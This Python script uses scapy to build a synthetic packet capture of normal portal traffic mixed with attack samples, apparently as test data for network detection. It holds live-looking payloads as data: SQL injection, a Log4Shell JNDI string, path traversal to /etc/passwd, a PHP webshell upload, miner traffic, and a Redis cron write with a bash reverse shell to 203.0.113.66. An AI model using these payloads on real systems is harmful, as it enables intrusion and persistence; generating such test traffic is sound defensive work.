"""Makes demo.pcap: twenty seconds of ordinary traffic and of attacks, in documentation addresses (RFC 5737)."""

from __future__ import annotations

import gzip
import itertools
import random
import sys
from pathlib import Path

from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.l2 import Ether
from scapy.packet import Packet
from scapy.utils import wrpcap

START = 1_767_225_600.0  # 2026-01-01
PORTAL, DATABASE, RESOLVER = "192.0.2.80", "192.0.2.90", "192.0.2.53"
CLERK, TERMINAL, STRANGER = "192.0.2.21", "192.0.2.45", "203.0.113.66"
_ports = itertools.count(40000)
_random = random.Random(7)


def _frame(ts: float, packet: Packet) -> Packet:
    frame = Ether(src="02:00:00:00:00:01", dst="02:00:00:00:00:02") / packet
    frame.time = START + ts
    return frame


def talk(ts: float, client: str, server: str, port: int, *turns: tuple[str, bytes]) -> list[Packet]:
    """A whole TCP connection; turns are (`>` from the client or `<`, bytes)."""
    up, down = IP(src=client, dst=server), IP(src=server, dst=client)
    ports = {"sport": next(_ports), "dport": port}
    back = {"sport": port, "dport": ports["sport"]}
    mine, theirs = _random.randrange(1 << 30), _random.randrange(1 << 30)
    packets = [
        up / TCP(**ports, flags="S", seq=mine),
        down / TCP(**back, flags="SA", seq=theirs, ack=mine + 1),
        up / TCP(**ports, flags="A", seq=mine + 1, ack=theirs + 1),
    ]
    mine, theirs = mine + 1, theirs + 1
    for side, data in turns:
        for start in range(0, len(data), 1400):
            piece = data[start : start + 1400]
            if side == ">":
                packets.append(up / TCP(**ports, flags="PA", seq=mine, ack=theirs) / piece)
                mine += len(piece)
            else:
                packets.append(down / TCP(**back, flags="PA", seq=theirs, ack=mine) / piece)
                theirs += len(piece)
    packets += [
        up / TCP(**ports, flags="FA", seq=mine, ack=theirs),
        down / TCP(**back, flags="FA", seq=theirs, ack=mine + 1),
        up / TCP(**ports, flags="A", seq=mine + 1, ack=theirs + 1),
    ]
    return [_frame(ts + 0.004 * number, packet) for number, packet in enumerate(packets)]


def get(path: str, host: str = "portal.example", agent: str = "Mozilla/5.0", more: str = "") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\n{more}\r\n".encode()


def post(path: str, body: str, more: str = "") -> bytes:
    head = (
        f"POST {path} HTTP/1.1\r\nHost: portal.example\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    )
    return f"{head}{more}Content-Length: {len(body)}\r\n\r\n{body}".encode()


def answer(body: str, status: str = "200 OK", more: str = "") -> bytes:
    head = f"HTTP/1.1 {status}\r\nServer: nginx\r\nContent-Type: text/html\r\n{more}Content-Length: {len(body)}\r\n\r\n"
    return (head + body).encode()


def lookup(ts: float, client: str, name: str, address: str) -> list[Packet]:
    port, number = next(_ports), _random.randrange(65536)
    question = DNS(id=number, rd=1, qd=DNSQR(qname=name))
    reply = DNS(
        id=number, qr=1, rd=1, ra=1, qd=DNSQR(qname=name), an=DNSRR(rrname=name, rdata=address, ttl=300)
    )
    return [
        _frame(ts, IP(src=client, dst=RESOLVER) / UDP(sport=port, dport=53) / question),
        _frame(ts + 0.01, IP(src=RESOLVER, dst=client) / UDP(sport=53, dport=port) / reply),
    ]


def build() -> list[Packet]:
    """All packets, in order of time."""
    page = "<html><body>" + "政务公开 " * 50 + "</body></html>"
    frames: list[Packet] = []
    for second in range(20):
        frames += lookup(second + 0.1, CLERK, "portal.example", PORTAL)
        frames += talk(
            second + 0.2, CLERK, PORTAL, 80, (">", get(f"/news/{second}.html")), ("<", answer(page))
        )
    attack = [
        (2.0, get("/index.html", agent="sqlmap/1.8#stable (https://sqlmap.org)")),
        (3.5, get("/item?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--%20")),
        (5.0, get("/login", more="X-Api-Version: ${jndi:ldap://203.0.113.66:1389/a}\r\n")),
        (6.5, get("/download?file=../../../../etc/passwd")),
        (8.0, post("/upload/logo.php", '@ini_set("display_errors", "0");@set_time_limit(0);echo "x";')),
        (9.5, post("/seeyon/htmlofficeservlet", "DBSTEP V3.     355             0               666")),
    ]
    for ts, request in attack:
        frames += talk(ts, STRANGER, PORTAL, 80, (">", request), ("<", answer("<html>ok</html>")))
    login = (
        b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"x","pass":"x","agent":"XMRig/6.21"}}\n'
    )
    job = b'{"id":1,"jsonrpc":"2.0","result":{"id":"1","job":{"blob":"00","job_id":"1","target":"ff"}}}\n'
    frames += talk(11.0, TERMINAL, "198.51.100.7", 3333, (">", login), ("<", job))
    for number in range(1, 16):
        ping = IP(src=TERMINAL, dst=f"192.0.2.{100 + number}") / ICMP(type=8, id=1, seq=1) / bytes(32)
        frames.append(_frame(13.0 + number * 0.02, ping))
    frames += talk(15.0, TERMINAL, "198.51.100.8", 7000, (">", b"TST\x06\x00\x00\x000.26.1"), ("<", b"ok"))
    shell = b"bash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n"
    frames += talk(
        17.0, STRANGER, DATABASE, 6379, (">", b"CONFIG SET dir /var/spool/cron/\r\n"), (">", shell)
    )
    return sorted(frames, key=lambda frame: float(frame.time))


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else Path(__file__).with_name("demo.pcap"))
    wrpcap(str(target), build())
    print(f"{target}: {target.stat().st_size} bytes, {len(gzip.compress(target.read_bytes()))} compressed")
